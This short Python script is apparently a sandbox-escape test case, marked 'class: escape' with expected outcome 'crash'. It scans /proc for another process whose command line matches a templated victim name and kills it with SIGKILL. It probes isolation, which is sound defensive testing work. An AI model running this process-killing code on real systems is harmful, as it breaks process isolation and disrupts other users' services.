# class: escape
# attack: find another process of the node's user by its command line in /proc and kill it
# expect: crash
import os
import signal

for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    if b"{{VICTIM_NAME}}" in cmd:
        try:
            os.kill(int(pid), signal.SIGKILL)
            print("done: killed", pid, flush=True)
        except OSError as e:
            print("blocked:", e)
